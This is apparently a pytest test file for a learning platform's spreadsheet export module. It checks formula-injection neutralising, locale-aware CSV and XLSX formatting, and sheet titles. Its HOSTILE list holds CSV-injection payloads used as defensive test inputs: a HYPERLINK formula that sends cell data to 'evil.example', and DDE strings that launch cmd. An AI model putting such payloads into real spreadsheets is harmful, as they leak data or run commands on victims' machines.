"""The one spreadsheet writer (lms/spreadsheets.py): formulas neutralised, numbers
and dates typed, CSV as each language's spreadsheets read it. Pure: no database."""

import csv
import datetime
import decimal
import io

import pytest
from django.utils import translation
from openpyxl import load_workbook

from lms.spreadsheets import (
    FORMULA_PREFIXES,
    Month,
    Number,
    Percentage,
    csv_lines,
    neutralise,
    sheet_title,
    xlsx_bytes,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&B3,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_run_is_marked_as_text(text):
    assert neutralise(text) == "'" + text


def test_every_dangerous_prefix_is_covered():
    assert set(FORMULA_PREFIXES) == {"=", "+", "-", "@", "\t", "\r"}
    for prefix in FORMULA_PREFIXES:
        assert neutralise(prefix + "x") == "'" + prefix + "x"


@pytest.mark.parametrize(
    "value",
    [
        "Ana Novak",
        "a=b",
        "Studio -30 %",
        "'quoted",
        "",
        " =not first",
        "<5",
        "–",  # an en dash, as the dashboard writes "no data"
        0,
        42,
        -3,
        -0.5,
        1.25,
        decimal.Decimal("-6.5"),
        None,
        datetime.date(2026, 3, 1),
    ],
)
def test_safe_values_pass_unchanged(value):
    result = neutralise(value)
    assert result == value and type(result) is type(value)


ROW = [
    HOSTILE[0],
    -0.5,
    Number(-0.004, 2, signed=True),
    Number(1.666, 2, signed=True),
    Percentage(0.45),
    7,
    datetime.datetime(2026, 7, 1, 10, 5, tzinfo=datetime.UTC),  # 12:05 in Ljubljana
    datetime.date(2026, 12, 1),
    Month(datetime.date(2026, 3, 1)),
    None,
]


def test_csv_in_english_uses_commas_and_decimal_points():
    with translation.override("en"):
        text = "".join(csv_lines(["Name", "Gain"], [ROW]))
    assert text.startswith("\ufeff")
    headings, row = list(csv.reader(io.StringIO(text[1:])))
    assert headings == ["Name", "Gain"]
    assert row == [
        "'" + HOSTILE[0],
        "-0.5",
        "0.00",
        "1.67",
        "45%",
        "7",
        "2026-07-01 12:05",
        "2026-12-01",
        "2026-03",
        "",
    ]


def test_csv_in_slovenian_uses_semicolons_and_decimal_commas():
    with translation.override("sl"):
        text = "".join(csv_lines(["Ime", "Napredek"], [ROW]))
    assert text.startswith("\ufeff") and text.splitlines()[0] == "\ufeffIme;Napredek"
    _headings, row = list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
    assert row[:5] == ["'" + HOSTILE[0], "-0,5", "0,00", "1,67", "45%"]


def test_xlsx_holds_numbers_dates_and_text_that_is_never_a_formula():
    with translation.override("sl"):
        content = xlsx_bytes(
            title="Learning gain (after minus before, on 1–5)",
            headings=["Ime", "Gain"],
            rows=[ROW, ["#N/A", "bell\x07 in a name"]],
        )
    workbook = load_workbook(io.BytesIO(content))
    assert workbook.sheetnames == ["Learning gain"]
    sheet = workbook.active
    assert sheet["A1"].font.bold
    cells = [sheet.cell(2, column) for column in range(1, len(ROW) + 1)]
    name, gain, zero, change, share, count, moment, day, month, empty = cells
    assert name.data_type == "s" and name.value == "'" + HOSTILE[0]
    assert gain.value == -0.5 and gain.data_type == "n"
    assert zero.value == 0 and change.value == 1.67
    assert change.number_format == "+0.00;-0.00;0.00"
    assert share.value == 0.45 and share.number_format == "0%"
    assert count.value == 7
    assert moment.value == datetime.datetime(2026, 7, 1, 12, 5)
    assert moment.is_date and moment.number_format == "d. m. yyyy hh:mm"
    assert day.value == datetime.datetime(2026, 12, 1) and day.is_date
    assert day.number_format == "d. m. yyyy"
    assert month.value == datetime.datetime(2026, 3, 1) and month.is_date
    assert empty.value is None
    error_code, control = sheet[3][:2]
    assert error_code.data_type == "s" and control.value == "bell in a name"


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("Learners", "Learners"),
        ("By creative sector", "By creative sector"),
        ("Funnel: from the course page to a certificate", "Funnel"),
        ("Učni napredek (po minus pred, na lestvici 1–5)", "Učni napredek"),
        ("Quizzes [2026/03]", "Quizzes -2026-03-"),
        (
            "A very long table title without any parenthesis at all",
            "A very long table title without",
        ),
        ("", "Sheet1"),
    ],
)
def test_sheet_titles_name_the_table_within_excels_rules(title, expected):
    assert sheet_title(title) == expected
    assert len(sheet_title(title)) <= 31


def test_percentages_and_numbers_read_as_the_language_writes_them():
    with translation.override("sl"):
        assert str(Percentage(0.456)) == "46 %"
        assert str(Number(24.75, 1)) == "24,8"
        assert str(Number(2 / 3, 2, signed=True)) == "+0,67"
        assert str(Number(-0.001, 2, signed=True)) == "0,00"
    with translation.override("en"):
        assert str(Number(-0.5, 2, signed=True)) == "-0.50"
    assert str(Month(datetime.date(2026, 3, 1))) == "2026-03"
